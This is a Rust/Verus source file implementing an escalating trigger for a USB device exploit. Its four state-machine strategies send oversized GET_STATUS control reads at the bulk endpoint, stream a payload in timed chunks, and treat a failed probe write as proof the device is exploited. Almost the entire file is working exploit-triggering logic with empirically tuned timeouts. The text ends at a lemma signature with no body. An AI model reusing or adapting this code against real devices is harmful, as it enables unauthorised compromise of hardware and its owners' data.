//! The escalating trigger protocol, for when the device's state is unknown:
//! four strategies, each a state machine that asks for one USB operation at a
//! time and is handed its outcome, run in fixed order until one succeeds.
//!
//! All four read a transfer timeout the same way: it may mean the device
//! crashed or only that it is slow, and a tiny follow-up write decides. If
//! that probe fails in any way, the device is taken to be exploited.
use vstd::prelude::*;
use crate::layout::CHUNK_SIZE;
use crate::usb::{
    ControlRead, UsbError, overflow_request, make_overflow_request, STANDARD_REQUEST_DEVICE_TO_HOST,
    GET_STATUS,
};

verus! {

/// Buffer length of the oversized control reads.
pub const OVERFLOW_LENGTH: usize = 0xFFFF;

/// Length of the tiny write that probes whether the device still answers.
pub const PROBE_LENGTH: usize = 0x100;

/// Piece size of the aggressive-timing strategy.
pub const AGGRESSIVE_PIECE: usize = 0x800;

/// Number of priming GET_STATUS reads.
pub const PRIME_COUNT: u8 = 5;

// Timeouts and pauses of the strategies, in microseconds. They are
// empirical defaults of the protocol, kept as they were found to work.
pub const CLASSIC_WRITE_TIMEOUT_US: u64 = 50_000;
pub const CLASSIC_OVERFLOW_TIMEOUT_US: u64 = 100_000;
pub const CLASSIC_PROBE_US: u64 = 50_000;
pub const PRIME_TIMEOUT_US: u64 = 200_000;
pub const PRIME_GAP_US: u64 = 10_000;
pub const PRIMED_WRITE_TIMEOUT_US: u64 = 1_000_000;
pub const PRIMED_OVERFLOW_TIMEOUT_US: u64 = 100_000;
pub const PRIMED_PROBE_US: u64 = 50_000;
pub const STREAM_OVERFLOW_TIMEOUT_US: u64 = 50_000;
pub const STREAM_WRITE_TIMEOUT_US: u64 = 200_000;
pub const STREAM_PROBE_US: u64 = 20_000;
pub const AGGRESSIVE_TIMEOUT_US: u64 = 10_000;
pub const AGGRESSIVE_PROBE_US: u64 = 500;
pub const AGGRESSIVE_GAP_US: u64 = 500;
pub const RESET_SETTLE_US: u64 = 100_000;
pub const RESET_WRITE_TIMEOUT_US: u64 = 10_000;
pub const RESET_OVERFLOW_AFTER_WRITE_US: u64 = 50_000;
pub const RESET_PROBE_AFTER_WRITE_US: u64 = 20_000;
pub const RESET_OVERFLOW_AFTER_TIMEOUT_US: u64 = 100_000;
pub const RESET_PROBE_AFTER_TIMEOUT_US: u64 = 50_000;

/// One USB operation for the caller to perform, after pausing `pause_us`
/// where given. A bulk write sends `payload[start..end]` to the bulk endpoint.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum UsbOp {
    BulkWrite { start: usize, end: usize, pause_us: u64, timeout_us: u64 },
    Control { pause_us: u64, request: ControlRead },
    ResetDevice,
    ClearHalt { pause_us: u64 },
}

/// Why one strategy gave up.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum StrategyFailure {
    /// The first write went through: the device took the data normally.
    AcceptedNormally,
    /// The device still answered the responsiveness probe.
    StillResponsive,
    /// The whole payload went out and nothing triggered.
    CompletedWithoutTrigger,
    /// A write went through but took no bytes, so the stream could not advance.
    NoProgress,
    /// A write failed with an error other than a timeout.
    TransferFailed(UsbError),
}

/// What one strategy asks for next.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum StrategyStep {
    Op(UsbOp),
    Succeeded,
    Failed(StrategyFailure),
}

pub open spec fn min_usize(a: usize, b: usize) -> usize {
    if a <= b { a } else { b }
}

/// The tiny write whose failure declares the device exploited.
pub open spec fn probe(len: usize, wait_us: u64) -> UsbOp {
    UsbOp::BulkWrite { start: 0, end: min_usize(PROBE_LENGTH, len), pause_us: wait_us, timeout_us: wait_us }
}

/// The oversized GET_STATUS read aimed at the bulk endpoint.
pub open spec fn overflow_op(ep: u8, pause_us: u64, timeout_us: u64) -> UsbOp {
    UsbOp::Control { pause_us, request: overflow_request(ep as u16, OVERFLOW_LENGTH, timeout_us) }
}

/// The first chunk of the payload.
pub open spec fn first_chunk(len: usize, pause_us: u64, timeout_us: u64) -> UsbOp {
    UsbOp::BulkWrite { start: 0, end: min_usize(CHUNK_SIZE, len), pause_us, timeout_us }
}

/// The device-level GET_STATUS read that primes the device.
pub open spec fn prime_request() -> ControlRead {
    ControlRead {
        request_type: STANDARD_REQUEST_DEVICE_TO_HOST,
        request: GET_STATUS,
        value: 0,
        index: 0,
        length: OVERFLOW_LENGTH,
        timeout_us: PRIME_TIMEOUT_US,
    }
}

/// After a probe: a failed probe is success, an answered one goes on as `answered`.
pub open spec fn after_probe(ev: Result<usize, UsbError>, answered: StrategyStep) -> StrategyStep {
    if ev is Ok { answered } else { StrategyStep::Succeeded }
}

fn make_probe(len: usize, wait_us: u64) -> (r: UsbOp)
    ensures
        r == probe(len, wait_us),
{
    UsbOp::BulkWrite {
        start: 0,
        end: if PROBE_LENGTH <= len { PROBE_LENGTH } else { len },
        pause_us: wait_us,
        timeout_us: wait_us,
    }
}

fn make_overflow_op(ep: u8, pause_us: u64, timeout_us: u64) -> (r: UsbOp)
    ensures
        r == overflow_op(ep, pause_us, timeout_us),
{
    UsbOp::Control { pause_us, request: make_overflow_request(ep as u16, OVERFLOW_LENGTH, timeout_us) }
}

fn make_first_chunk(len: usize, pause_us: u64, timeout_us: u64) -> (r: UsbOp)
    ensures
        r == first_chunk(len, pause_us, timeout_us),
{
    UsbOp::BulkWrite {
        start: 0,
        end: if CHUNK_SIZE <= len { CHUNK_SIZE } else { len },
        pause_us,
        timeout_us,
    }
}

fn make_after_probe(ev: Result<usize, UsbError>, answered: StrategyStep) -> (r: StrategyStep)
    ensures
        r == after_probe(ev, answered),
{
    if ev.is_ok() { answered } else { StrategyStep::Succeeded }
}

// ---------------------------------------------------------------------------
// Strategy 1: classic bulk interrupt.
/// Where the classic bulk-interrupt strategy stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum ClassicPhase {
    InitialWrite,
    Overflow,
    Probe,
}

pub open spec fn classic_start(len: usize) -> (ClassicPhase, StrategyStep) {
    (ClassicPhase::InitialWrite, StrategyStep::Op(first_chunk(len, 0, CLASSIC_WRITE_TIMEOUT_US)))
}

/// A first chunk that goes through means the exploit did not trigger; a
/// timeout is followed by the overflow read, then the probe.
pub open spec fn classic_next(p: ClassicPhase, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (
    ClassicPhase,
    StrategyStep,
) {
    match p {
        ClassicPhase::InitialWrite => match ev {
            Ok(_) => (p, StrategyStep::Failed(StrategyFailure::AcceptedNormally)),
            Err(UsbError::Timeout) => (
                ClassicPhase::Overflow,
                StrategyStep::Op(overflow_op(ep, 0, CLASSIC_OVERFLOW_TIMEOUT_US)),
            ),
            Err(e) => (p, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        ClassicPhase::Overflow => (ClassicPhase::Probe, StrategyStep::Op(probe(len, CLASSIC_PROBE_US))),
        ClassicPhase::Probe => (
            p,
            after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
    }
}

fn classic_next_exec(p: ClassicPhase, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (r: (
    ClassicPhase,
    StrategyStep,
))
    ensures
        r == classic_next(p, len, ep, ev),
{
    match p {
        ClassicPhase::InitialWrite => match ev {
            Ok(_) => (p, StrategyStep::Failed(StrategyFailure::AcceptedNormally)),
            Err(UsbError::Timeout) => (
                ClassicPhase::Overflow,
                StrategyStep::Op(make_overflow_op(ep, 0, CLASSIC_OVERFLOW_TIMEOUT_US)),
            ),
            Err(e) => (p, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        ClassicPhase::Overflow => (ClassicPhase::Probe, StrategyStep::Op(make_probe(len, CLASSIC_PROBE_US))),
        ClassicPhase::Probe => (
            p,
            make_after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
    }
}


// ---------------------------------------------------------------------------
// Strategy 2: primed device.
/// Where the primed-device strategy stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum PrimedPhase {
    /// `done` priming reads have been issued.
    Priming { done: u8 },
    FirstWrite,
    FirstOverflow,
    FirstProbe,
    StreamOverflow,
    StreamWrite,
    StreamProbe,
    /// The strategy has ended.
    Finished,
}

/// The primed-device strategy: its phase, the bytes streamed so far, and
/// whether the next streaming round starts with an overflow read.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct PrimedState {
    pub phase: PrimedPhase,
    pub sent: usize,
    pub alternate: bool,
}

pub open spec fn primed_wf(s: PrimedState, len: usize) -> bool {
    &&& s.sent <= len
    &&& s.phase matches PrimedPhase::Priming { done } ==> 1 <= done <= PRIME_COUNT
    &&& (s.phase is StreamOverflow || s.phase is StreamWrite) ==> s.sent < len
}

/// End of the streaming chunk that starts at `sent`.
pub open spec fn stream_end(sent: usize, len: usize) -> usize {
    if len - sent > CHUNK_SIZE { (sent + CHUNK_SIZE) as usize } else { len }
}

pub open spec fn primed_start() -> (PrimedState, StrategyStep) {
    (
        PrimedState { phase: PrimedPhase::Priming { done: 1 }, sent: 0, alternate: false },
        StrategyStep::Op(UsbOp::Control { pause_us: 0, request: prime_request() }),
    )
}

/// One streaming round from `sent`: an overflow read first on every other
/// round, then the next chunk; when all is sent, the strategy failed.
pub open spec fn primed_stream(sent: usize, alternate: bool, len: usize, ep: u8) -> (
    PrimedState,
    StrategyStep,
) {
    if sent < len {
        if alternate {
            (
                PrimedState { phase: PrimedPhase::StreamOverflow, sent, alternate: false },
                StrategyStep::Op(overflow_op(ep, 0, STREAM_OVERFLOW_TIMEOUT_US)),
            )
        } else {
            (
                PrimedState { phase: PrimedPhase::StreamWrite, sent, alternate: true },
                StrategyStep::Op(
                    UsbOp::BulkWrite {
                        start: sent,
                        end: stream_end(sent, len),
                        pause_us: 0,
                        timeout_us: STREAM_WRITE_TIMEOUT_US,
                    },
                ),
            )
        }
    } else {
        (
            PrimedState { phase: PrimedPhase::Finished, sent, alternate },
            StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger),
        )
    }
}

/// Five priming reads 10 ms apart, then the first chunk. If it goes through,
/// the rest streams with an overflow read every other chunk, a timeout there
/// calling the probe; if it times out, the overflow read and the probe follow.
/// Either way an answered probe ends the strategy. A device-reported count is
/// taken up to the chunk's own length, and a streamed chunk that took no bytes
/// ends the strategy, so every round advances or ends it.
pub open spec fn primed_next(s: PrimedState, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (
    PrimedState,
    StrategyStep,
) {
    match s.phase {
        PrimedPhase::Priming { done } => if done < PRIME_COUNT {
            (
                PrimedState { phase: PrimedPhase::Priming { done: (done + 1) as u8 }, ..s },
                StrategyStep::Op(UsbOp::Control { pause_us: PRIME_GAP_US, request: prime_request() }),
            )
        } else {
            (
                PrimedState { phase: PrimedPhase::FirstWrite, ..s },
                StrategyStep::Op(first_chunk(len, PRIME_GAP_US, PRIMED_WRITE_TIMEOUT_US)),
            )
        },
        PrimedPhase::FirstWrite => match ev {
            Ok(w) => primed_stream(min_usize(w, min_usize(CHUNK_SIZE, len)), false, len, ep),
            Err(UsbError::Timeout) => (
                PrimedState { phase: PrimedPhase::FirstOverflow, ..s },
                StrategyStep::Op(overflow_op(ep, 0, PRIMED_OVERFLOW_TIMEOUT_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        PrimedPhase::FirstOverflow => (
            PrimedState { phase: PrimedPhase::FirstProbe, ..s },
            StrategyStep::Op(probe(len, PRIMED_PROBE_US)),
        ),
        PrimedPhase::FirstProbe => (
            s,
            after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
        PrimedPhase::StreamOverflow => (
            PrimedState { phase: PrimedPhase::StreamWrite, ..s },
            StrategyStep::Op(
                UsbOp::BulkWrite {
                    start: s.sent,
                    end: stream_end(s.sent, len),
                    pause_us: 0,
                    timeout_us: STREAM_WRITE_TIMEOUT_US,
                },
            ),
        ),
        PrimedPhase::StreamWrite => match ev {
            Ok(w) => if w == 0 {
                (
                    PrimedState { phase: PrimedPhase::Finished, ..s },
                    StrategyStep::Failed(StrategyFailure::NoProgress),
                )
            } else {
                primed_stream(
                    (s.sent + min_usize(w, (stream_end(s.sent, len) - s.sent) as usize)) as usize,
                    s.alternate,
                    len,
                    ep,
                )
            },
            Err(UsbError::Timeout) => (
                PrimedState { phase: PrimedPhase::StreamProbe, ..s },
                StrategyStep::Op(probe(len, STREAM_PROBE_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        PrimedPhase::StreamProbe => (
            PrimedState { phase: PrimedPhase::Finished, ..s },
            after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
        PrimedPhase::Finished => (s, StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger)),
    }
}

fn primed_stream_exec(sent: usize, alternate: bool, len: usize, ep: u8) -> (r: (
    PrimedState,
    StrategyStep,
))
    requires
        sent <= len,
    ensures
        r == primed_stream(sent, alternate, len, ep),
        primed_wf(r.0, len),
{
    if sent < len {
        if alternate {
            (
                PrimedState { phase: PrimedPhase::StreamOverflow, sent, alternate: false },
                StrategyStep::Op(make_overflow_op(ep, 0, STREAM_OVERFLOW_TIMEOUT_US)),
            )
        } else {
            let end = if len - sent > CHUNK_SIZE { sent + CHUNK_SIZE } else { len };
            (
                PrimedState { phase: PrimedPhase::StreamWrite, sent, alternate: true },
                StrategyStep::Op(
                    UsbOp::BulkWrite { start: sent, end, pause_us: 0, timeout_us: STREAM_WRITE_TIMEOUT_US },
                ),
            )
        }
    } else {
        (
            PrimedState { phase: PrimedPhase::Finished, sent, alternate },
            StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger),
        )
    }
}

fn primed_next_exec(s: PrimedState, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (r: (
    PrimedState,
    StrategyStep,
))
    requires
        primed_wf(s, len),
    ensures
        r == primed_next(s, len, ep, ev),
        primed_wf(r.0, len),
{
    match s.phase {
        PrimedPhase::Priming { done } => if done < PRIME_COUNT {
            (
                PrimedState { phase: PrimedPhase::Priming { done: done + 1 }, ..s },
                StrategyStep::Op(
                    UsbOp::Control {
                        pause_us: PRIME_GAP_US,
                        request: ControlRead {
                            request_type: STANDARD_REQUEST_DEVICE_TO_HOST,
                            request: GET_STATUS,
                            value: 0,
                            index: 0,
                            length: OVERFLOW_LENGTH,
                            timeout_us: PRIME_TIMEOUT_US,
                        },
                    },
                ),
            )
        } else {
            (
                PrimedState { phase: PrimedPhase::FirstWrite, ..s },
                StrategyStep::Op(make_first_chunk(len, PRIME_GAP_US, PRIMED_WRITE_TIMEOUT_US)),
            )
        },
        PrimedPhase::FirstWrite => match ev {
            Ok(w) => {
                let first = if CHUNK_SIZE <= len { CHUNK_SIZE } else { len };
                let sent = if w <= first { w } else { first };
                primed_stream_exec(sent, false, len, ep)
            },
            Err(UsbError::Timeout) => (
                PrimedState { phase: PrimedPhase::FirstOverflow, ..s },
                StrategyStep::Op(make_overflow_op(ep, 0, PRIMED_OVERFLOW_TIMEOUT_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        PrimedPhase::FirstOverflow => (
            PrimedState { phase: PrimedPhase::FirstProbe, ..s },
            StrategyStep::Op(make_probe(len, PRIMED_PROBE_US)),
        ),
        PrimedPhase::FirstProbe => (
            s,
            make_after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
        PrimedPhase::StreamOverflow => {
            let end = if len - s.sent > CHUNK_SIZE { s.sent + CHUNK_SIZE } else { len };
            (
                PrimedState { phase: PrimedPhase::StreamWrite, ..s },
                StrategyStep::Op(
                    UsbOp::BulkWrite { start: s.sent, end, pause_us: 0, timeout_us: STREAM_WRITE_TIMEOUT_US },
                ),
            )
        },
        PrimedPhase::StreamWrite => match ev {
            Ok(w) => if w == 0 {
                (
                    PrimedState { phase: PrimedPhase::Finished, ..s },
                    StrategyStep::Failed(StrategyFailure::NoProgress),
                )
            } else {
                let end = if len - s.sent > CHUNK_SIZE { s.sent + CHUNK_SIZE } else { len };
                let room = end - s.sent;
                let took = if w <= room { w } else { room };
                primed_stream_exec(s.sent + took, s.alternate, len, ep)
            },
            Err(UsbError::Timeout) => (
                PrimedState { phase: PrimedPhase::StreamProbe, ..s },
                StrategyStep::Op(make_probe(len, STREAM_PROBE_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        PrimedPhase::StreamProbe => (
            PrimedState { phase: PrimedPhase::Finished, ..s },
            make_after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
        PrimedPhase::Finished => (s, StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger)),
    }
}


// ---------------------------------------------------------------------------
// Strategy 3: aggressive timing.
/// Where the aggressive-timing strategy stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum AggressivePhase {
    Overflow,
    Write,
    Probe,
}

/// The aggressive-timing strategy: its phase and the start of the current piece.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub struct AggressiveState {
    pub phase: AggressivePhase,
    pub pos: usize,
}

pub open spec fn aggressive_wf(s: AggressiveState, len: usize) -> bool {
    s.pos < len
}

/// End of the piece that starts at `pos`.
pub open spec fn piece_end(pos: usize, len: usize) -> usize {
    if len - pos > AGGRESSIVE_PIECE { (pos + AGGRESSIVE_PIECE) as usize } else { len }
}

/// The round for the piece at `pos`: a 10 ms overflow read after `pause_us`.
pub open spec fn aggressive_round(pos: usize, ep: u8, pause_us: u64) -> (AggressiveState, StrategyStep) {
    (
        AggressiveState { phase: AggressivePhase::Overflow, pos },
        StrategyStep::Op(overflow_op(ep, pause_us, AGGRESSIVE_TIMEOUT_US)),
    )
}

/// On to the piece after `pos`, or failure when it was the last.
pub open spec fn aggressive_advance(s: AggressiveState, len: usize, ep: u8, pause_us: u64) -> (
    AggressiveState,
    StrategyStep,
) {
    if len - s.pos > AGGRESSIVE_PIECE {
        aggressive_round((s.pos + AGGRESSIVE_PIECE) as usize, ep, pause_us)
    } else {
        (s, StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger))
    }
}

pub open spec fn aggressive_start(len: usize, ep: u8) -> (AggressiveState, StrategyStep) {
    if len == 0 {
        (
            AggressiveState { phase: AggressivePhase::Overflow, pos: 0 },
            StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger),
        )
    } else {
        aggressive_round(0, ep, 0)
    }
}

/// Each piece of `AGGRESSIVE_PIECE` bytes: an overflow read, then the piece,
/// both with 10 ms timeouts; a timed-out piece calls a 500 us probe, and an
/// answered probe goes straight on; rounds that wrote are 500 us apart.
pub open spec fn aggressive_next(s: AggressiveState, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (
    AggressiveState,
    StrategyStep,
) {
    match s.phase {
        AggressivePhase::Overflow => (
            AggressiveState { phase: AggressivePhase::Write, ..s },
            StrategyStep::Op(
                UsbOp::BulkWrite {
                    start: s.pos,
                    end: piece_end(s.pos, len),
                    pause_us: 0,
                    timeout_us: AGGRESSIVE_TIMEOUT_US,
                },
            ),
        ),
        AggressivePhase::Write => match ev {
            Ok(_) => aggressive_advance(s, len, ep, AGGRESSIVE_GAP_US),
            Err(UsbError::Timeout) => (
                AggressiveState { phase: AggressivePhase::Probe, ..s },
                StrategyStep::Op(probe(len, AGGRESSIVE_PROBE_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        AggressivePhase::Probe => if ev is Ok {
            aggressive_advance(s, len, ep, 0)
        } else {
            (s, StrategyStep::Succeeded)
        },
    }
}

fn aggressive_advance_exec(s: AggressiveState, len: usize, ep: u8, pause_us: u64) -> (r: (
    AggressiveState,
    StrategyStep,
))
    requires
        aggressive_wf(s, len),
    ensures
        r == aggressive_advance(s, len, ep, pause_us),
        aggressive_wf(r.0, len),
{
    if len - s.pos > AGGRESSIVE_PIECE {
        (
            AggressiveState { phase: AggressivePhase::Overflow, pos: s.pos + AGGRESSIVE_PIECE },
            StrategyStep::Op(make_overflow_op(ep, pause_us, AGGRESSIVE_TIMEOUT_US)),
        )
    } else {
        (s, StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger))
    }
}

fn aggressive_start_exec(len: usize, ep: u8) -> (r: (AggressiveState, StrategyStep))
    ensures
        r == aggressive_start(len, ep),
        r.1 is Op ==> aggressive_wf(r.0, len),
{
    if len == 0 {
        (
            AggressiveState { phase: AggressivePhase::Overflow, pos: 0 },
            StrategyStep::Failed(StrategyFailure::CompletedWithoutTrigger),
        )
    } else {
        (
            AggressiveState { phase: AggressivePhase::Overflow, pos: 0 },
            StrategyStep::Op(make_overflow_op(ep, 0, AGGRESSIVE_TIMEOUT_US)),
        )
    }
}

fn aggressive_next_exec(s: AggressiveState, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (r: (
    AggressiveState,
    StrategyStep,
))
    requires
        aggressive_wf(s, len),
    ensures
        r == aggressive_next(s, len, ep, ev),
        aggressive_wf(r.0, len),
{
    match s.phase {
        AggressivePhase::Overflow => {
            let end = if len - s.pos > AGGRESSIVE_PIECE { s.pos + AGGRESSIVE_PIECE } else { len };
            (
                AggressiveState { phase: AggressivePhase::Write, ..s },
                StrategyStep::Op(
                    UsbOp::BulkWrite { start: s.pos, end, pause_us: 0, timeout_us: AGGRESSIVE_TIMEOUT_US },
                ),
            )
        },
        AggressivePhase::Write => match ev {
            Ok(_) => aggressive_advance_exec(s, len, ep, AGGRESSIVE_GAP_US),
            Err(UsbError::Timeout) => (
                AggressiveState { phase: AggressivePhase::Probe, ..s },
                StrategyStep::Op(make_probe(len, AGGRESSIVE_PROBE_US)),
            ),
            Err(e) => (s, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        AggressivePhase::Probe => if ev.is_ok() {
            aggressive_advance_exec(s, len, ep, 0)
        } else {
            (s, StrategyStep::Succeeded)
        },
    }
}

// ---------------------------------------------------------------------------
// Strategy 4: device reset.
/// Where the device-reset strategy stands.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum ResetPhase {
    Reset,
    ClearHalt,
    MinimalWrite,
    OverflowAfterWrite,
    ProbeAfterWrite,
    OverflowAfterTimeout,
    ProbeAfterTimeout,
}

pub open spec fn reset_start() -> (ResetPhase, StrategyStep) {
    (ResetPhase::Reset, StrategyStep::Op(UsbOp::ResetDevice))
}

/// A best-effort reset (100 ms to settle when it worked) and halt clearing,
/// then a 10 ms write of the first chunk; whether it went through or timed
/// out, an overflow read and a probe follow, with that branch's timings.
pub open spec fn reset_next(p: ResetPhase, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (
    ResetPhase,
    StrategyStep,
) {
    match p {
        ResetPhase::Reset => (
            ResetPhase::ClearHalt,
            StrategyStep::Op(UsbOp::ClearHalt { pause_us: if ev is Ok { RESET_SETTLE_US } else { 0 } }),
        ),
        ResetPhase::ClearHalt => (
            ResetPhase::MinimalWrite,
            StrategyStep::Op(first_chunk(len, 0, RESET_WRITE_TIMEOUT_US)),
        ),
        ResetPhase::MinimalWrite => match ev {
            Ok(_) => (
                ResetPhase::OverflowAfterWrite,
                StrategyStep::Op(overflow_op(ep, 0, RESET_OVERFLOW_AFTER_WRITE_US)),
            ),
            Err(UsbError::Timeout) => (
                ResetPhase::OverflowAfterTimeout,
                StrategyStep::Op(overflow_op(ep, 0, RESET_OVERFLOW_AFTER_TIMEOUT_US)),
            ),
            Err(e) => (p, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        ResetPhase::OverflowAfterWrite => (
            ResetPhase::ProbeAfterWrite,
            StrategyStep::Op(probe(len, RESET_PROBE_AFTER_WRITE_US)),
        ),
        ResetPhase::OverflowAfterTimeout => (
            ResetPhase::ProbeAfterTimeout,
            StrategyStep::Op(probe(len, RESET_PROBE_AFTER_TIMEOUT_US)),
        ),
        ResetPhase::ProbeAfterWrite | ResetPhase::ProbeAfterTimeout => (
            p,
            after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
    }
}

fn reset_next_exec(p: ResetPhase, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (r: (
    ResetPhase,
    StrategyStep,
))
    ensures
        r == reset_next(p, len, ep, ev),
{
    match p {
        ResetPhase::Reset => (
            ResetPhase::ClearHalt,
            StrategyStep::Op(UsbOp::ClearHalt { pause_us: if ev.is_ok() { RESET_SETTLE_US } else { 0 } }),
        ),
        ResetPhase::ClearHalt => (
            ResetPhase::MinimalWrite,
            StrategyStep::Op(make_first_chunk(len, 0, RESET_WRITE_TIMEOUT_US)),
        ),
        ResetPhase::MinimalWrite => match ev {
            Ok(_) => (
                ResetPhase::OverflowAfterWrite,
                StrategyStep::Op(make_overflow_op(ep, 0, RESET_OVERFLOW_AFTER_WRITE_US)),
            ),
            Err(UsbError::Timeout) => (
                ResetPhase::OverflowAfterTimeout,
                StrategyStep::Op(make_overflow_op(ep, 0, RESET_OVERFLOW_AFTER_TIMEOUT_US)),
            ),
            Err(e) => (p, StrategyStep::Failed(StrategyFailure::TransferFailed(e))),
        },
        ResetPhase::OverflowAfterWrite => (
            ResetPhase::ProbeAfterWrite,
            StrategyStep::Op(make_probe(len, RESET_PROBE_AFTER_WRITE_US)),
        ),
        ResetPhase::OverflowAfterTimeout => (
            ResetPhase::ProbeAfterTimeout,
            StrategyStep::Op(make_probe(len, RESET_PROBE_AFTER_TIMEOUT_US)),
        ),
        ResetPhase::ProbeAfterWrite | ResetPhase::ProbeAfterTimeout => (
            p,
            make_after_probe(ev, StrategyStep::Failed(StrategyFailure::StillResponsive)),
        ),
    }
}


// ---------------------------------------------------------------------------
// The escalation: the four strategies in fixed order.
/// The escalation strategies, in the order they are tried.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum Strategy {
    ClassicBulkInterrupt,
    PrimedDevice,
    AggressiveTiming,
    DeviceReset,
}

/// Position of a strategy in the order, from 1.
pub open spec fn rank(s: Strategy) -> nat {
    match s {
        Strategy::ClassicBulkInterrupt => 1,
        Strategy::PrimedDevice => 2,
        Strategy::AggressiveTiming => 3,
        Strategy::DeviceReset => 4,
    }
}

pub open spec fn strategy_at(k: nat) -> Strategy {
    if k <= 1 {
        Strategy::ClassicBulkInterrupt
    } else if k == 2 {
        Strategy::PrimedDevice
    } else if k == 3 {
        Strategy::AggressiveTiming
    } else {
        Strategy::DeviceReset
    }
}

/// The running strategy with its state.
#[derive(Debug, Clone, Copy, PartialEq, Eq, Structural)]
pub enum Attempt {
    Classic(ClassicPhase),
    Primed(PrimedState),
    Aggressive(AggressiveState),
    Reset(ResetPhase),
}

pub open spec fn attempt_strategy(a: Attempt) -> Strategy {
    match a {
        Attempt::Classic(_) => Strategy::ClassicBulkInterrupt,
        Attempt::Primed(_) => Strategy::PrimedDevice,
        Attempt::Aggressive(_) => Strategy::AggressiveTiming,
        Attempt::Reset(_) => Strategy::DeviceReset,
    }
}

pub open spec fn attempt_wf(a: Attempt, len: usize) -> bool {
    match a {
        Attempt::Primed(s) => primed_wf(s, len),
        Attempt::Aggressive(s) => aggressive_wf(s, len),
        _ => true,
    }
}

/// The first state and step of the `k`-th strategy.
pub open spec fn start_attempt(k: nat, len: usize, ep: u8) -> (Attempt, StrategyStep) {
    if k <= 1 {
        let (p, st) = classic_start(len);
        (Attempt::Classic(p), st)
    } else if k == 2 {
        let (p, st) = primed_start();
        (Attempt::Primed(p), st)
    } else if k == 3 {
        let (p, st) = aggressive_start(len, ep);
        (Attempt::Aggressive(p), st)
    } else {
        let (p, st) = reset_start();
        (Attempt::Reset(p), st)
    }
}

pub open spec fn attempt_next(a: Attempt, len: usize, ep: u8, ev: Result<usize, UsbError>) -> (
    Attempt,
    StrategyStep,
) {
    match a {
        Attempt::Classic(p) => {
            let (q, st) = classic_next(p, len, ep, ev);
            (Attempt::Classic(q), st)
        },
        Attempt::Primed(p) => {
            let (q, st) = primed_next(p, len, ep, ev);
            (Attempt::Primed(q), st)
        },
        Attempt::Aggressive(p) => {
            let (q, st) = aggressive_next(p, len, ep, ev);
            (Attempt::Aggressive(q), st)
        },
        Attempt::Reset(p) => {
            let (q, st) = reset_next(p, len, ep, ev);
            (Attempt::Reset(q), st)
        },
    }
}

/// A bound on the operations a running strategy may still ask for.
pub open spec fn attempt_measure(a: Attempt, len: usize) -> nat {
    match a {
        Attempt::Classic(p) => match p {
            ClassicPhase::InitialWrite => 2,
            ClassicPhase::Overflow => 1,
            ClassicPhase::Probe => 0,
        },
        Attempt::Primed(s) => match s.phase {
            PrimedPhase::Priming { done } => (3 * len + 4 + PRIME_COUNT - done) as nat,
            PrimedPhase::FirstWrite => (3 * len + 3) as nat,
            PrimedPhase::FirstOverflow => 2,
            PrimedPhase::FirstProbe => 1,
            PrimedPhase::StreamOverflow => (3 * (len - s.sent) + 2) as nat,
            PrimedPhase::StreamWrite => (3 * (len - s.sent) + 1) as nat,
            PrimedPhase::StreamProbe | PrimedPhase::Finished => 0,
        },
        Attempt::Aggressive(s) => (3 * (len - s.pos) + match s.phase {
            AggressivePhase::Overflow => 2int,
            AggressivePhase::Write => 1,
            AggressivePhase::Probe => 0,
        }) as nat,
        Attempt::Reset(p) => match p {
            ResetPhase::Reset => 5,
            ResetPhase::ClearHalt => 4,
            ResetPhase::MinimalWrite => 3,
            ResetPhase::OverflowAfterWrite | ResetPhase::OverflowAfterTimeout => 2,
            ResetPhase::ProbeAfterWrite | ResetPhase::ProbeAfterTimeout => 1,
        },
    }
}

/// Every strategy ends: each operation a running strategy asks for lowers a
/// measure that cannot drop below zero, so after finitely many operations it
/// succeeds or fails, whatever the device answers.
pub proof fn lemma_attempt_progress(a: Attempt, len: usize, ep: u8, ev: Result<usize, UsbError>)
